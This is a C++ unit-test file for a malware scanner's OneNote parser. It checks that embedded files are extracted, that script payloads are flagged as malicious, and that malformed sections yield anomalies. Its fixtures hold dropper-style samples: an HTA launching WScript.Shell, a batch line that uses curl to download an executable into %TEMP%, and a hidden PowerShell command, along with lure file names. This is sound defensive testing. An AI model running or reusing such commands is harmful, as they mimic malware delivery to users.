// onenote::scan and the OneNote handler on sections synthesized by tests/support/one_builder: embedded files are
// found and scanned as members named by order and type, scripts make the section malicious, and damaged objects
// (lengths past the end, missing footers, too many objects) degrade to anomalies with a verdict.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/scanner.hpp"
#include "formats/onenote/onenote.hpp"
#include "support/one_builder.hpp"

namespace {

using mamori::ByteView;
using namespace mamori::test;
namespace onenote = mamori::onenote;
namespace engine = mamori::engine;
using onenote::Anomaly;

const std::string kHta =
    "<html><head><HTA:APPLICATION id=\"x\"/><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run "
    "\"cmd /c echo\"</script></head></html>";

std::vector<std::uint8_t> png() {
  std::vector<std::uint8_t> p = {0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};
  for (int i = 0; i < 300; ++i) p.push_back(static_cast<std::uint8_t>(i * 31));
  return p;
}

engine::ScanResult scan(const std::vector<std::uint8_t>& b) {
  engine::Scanner s(std::optional<mamori::model::Model>{}, engine::Options{});
  return s.scan_bytes(ByteView(b.data(), b.size()), "s.one");
}

TEST(OneNoteScan, FindsEmbeddedFilesAndNames) {
  OneSpec spec;
  spec.names = {"invoice.hta", "click-to-view.png"};
  spec.objects = {{text_bytes(kHta)}, {png()}};
  const auto b = build_one(spec);
  ASSERT_EQ(engine::detect_type(ByteView(b.data(), b.size())).kind, engine::FileKind::onenote);
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  EXPECT_TRUE(s.anomalies.empty());
  ASSERT_EQ(s.files.size(), 2u);
  EXPECT_TRUE(s.files[0].footer_ok);
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(s.files[0].data.data()), s.files[0].data.size()), kHta);
  EXPECT_EQ(s.files[1].data.size(), png().size());
  EXPECT_EQ(s.names, (std::vector<std::string>{"invoice.hta", "click-to-view.png"}));
}

TEST(OneNoteScan, EmbeddedScriptMakesTheSectionMalicious) {
  OneSpec spec;
  spec.objects = {{png()}, {text_bytes(kHta)}};
  auto r = scan(build_one(spec));
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.OneNote.EmbeddedPayload");
  ASSERT_EQ(r.members.size(), 2u);
  EXPECT_EQ(r.members[0].path, "s.one!embedded-1.png");
  EXPECT_EQ(r.members[1].path, "s.one!embedded-2.hta");
  EXPECT_EQ(r.members[1].type.subtype, "script-hta");

  spec.objects = {{text_bytes("@echo off\r\ncurl -o %TEMP%\\a.exe https://example.net/a.exe\r\n")}};
  r = scan(build_one(spec));
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.members.at(0).path, "s.one!embedded-1.bat");

  // A batch file without "@echo off" is still recognised from its commands.
  spec.objects = {{text_bytes("start /min cmd /c powershell -w hidden -c whoami\r\nexit\r\n")}};
  r = scan(build_one(spec));
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.members.at(0).path, "s.one!embedded-1.cmd");
}

TEST(OneNoteScan, PicturesAndTextOnlyStayClean) {
  OneSpec spec;
  spec.names = {"diagram.png", "notes.txt"};
  spec.objects = {{png()}, {text_bytes("Meeting notes: agree the budget, book the room for Tuesday.")}};
  auto r = scan(build_one(spec));
  EXPECT_EQ(r.verdict, engine::Verdict::clean);
  EXPECT_EQ(r.members.size(), 2u);
  // No embedded files at all.
  r = scan(build_one(OneSpec{}));
  EXPECT_EQ(r.verdict, engine::Verdict::clean);
  EXPECT_TRUE(r.members.empty());
}

TEST(OneNoteScan, PayloadNameWithoutPayloadIsSuspicious) {
  OneSpec spec;
  spec.names = {"open-me.wsf"};
  auto r = scan(build_one(spec));
  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
  EXPECT_EQ(r.signature, "Mamori.OneNote.PayloadName");
  ASSERT_FALSE(r.context.empty());
  EXPECT_EQ(r.context[0], (std::pair<std::string, std::string>{"onenote.file_names", "open-me.wsf"}));
}

TEST(OneNoteScan, OversizedLengthIsCutAtTheEnd) {
  OneSpec spec;
  spec.objects = {{text_bytes(kHta), 1ull << 62, false}};
  const auto b = build_one(spec);
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  ASSERT_EQ(s.files.size(), 1u);
  EXPECT_TRUE(s.has(Anomaly::file_data_truncated));
  EXPECT_TRUE(s.has(Anomaly::file_data_footer_missing));
  EXPECT_EQ(s.files[0].declared_size, 1ull << 62);
  auto r = scan(b);
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);  // the HTA is still there to be found
  EXPECT_FALSE(r.anomalies.empty());
}

// A wrong length with the footer further on: the data ends at the footer, not at the end of the file.
TEST(OneNoteScan, FooterFurtherOnMarksTheEnd) {
  OneSpec spec;
  spec.objects = {{text_bytes(kHta), 1ull << 40, true}};
  auto b = build_one(spec);
  for (int i = 0; i < 5000; ++i) b.push_back(static_cast<std::uint8_t>(i * 131 + 7));
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  ASSERT_EQ(s.files.size(), 1u);
  EXPECT_TRUE(s.has(Anomaly::file_data_length_mismatch));
  EXPECT_FALSE(s.has(Anomaly::file_data_footer_missing));
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(s.files[0].data.data()), s.files[0].data.size()), kHta);
  EXPECT_EQ(scan(b).verdict, engine::Verdict::malicious);
}

// A bogus object in front does not hide the real one behind it.
TEST(OneNoteScan, MissingFooterDoesNotSwallowTheNextObject) {
  OneSpec spec;
  spec.objects = {{png(), 100000, false}, {text_bytes(kHta)}};
  const auto b = build_one(spec);
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  ASSERT_EQ(s.files.size(), 2u);
  EXPECT_TRUE(s.has(Anomaly::file_data_footer_missing));
  EXPECT_TRUE(s.files[1].footer_ok);
}

TEST(OneNoteScan, EveryTruncationGetsAVerdict) {
  OneSpec spec;
  spec.names = {"a.hta"};
  spec.objects = {{png()}, {text_bytes(kHta)}};
  const auto b = build_one(spec);
  for (std::size_t n = 0; n <= b.size(); n += 7) {
    std::vector<std::uint8_t> prefix(b.begin(), b.begin() + static_cast<std::ptrdiff_t>(n));
    auto r = scan(prefix);
    if (n >= 16) {
      EXPECT_EQ(r.type.kind, engine::FileKind::onenote);
      EXPECT_TRUE(r.verdict == engine::Verdict::clean || r.found()) << n;
    }
  }
}

TEST(OneNoteScan, ObjectCountStopsAtItsCap) {
  OneSpec spec;
  for (std::uint32_t i = 0; i < onenote::limits::max_embedded_files + 5; ++i) spec.objects.push_back({png()});
  const auto b = build_one(spec);
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  EXPECT_EQ(s.files.size(), onenote::limits::max_embedded_files);
  EXPECT_TRUE(s.has(Anomaly::embedded_truncated_by_limit));
}

TEST(OneNoteScan, NotASectionIsFlagged) {
  OneSpec spec;
  spec.header = false;
  spec.objects = {{png()}};
  const auto b = build_one(spec);
  auto s = onenote::scan(ByteView(b.data(), b.size()));
  EXPECT_TRUE(s.has(Anomaly::header_not_onenote));
  EXPECT_EQ(s.files.size(), 1u);
}

}  // namespace
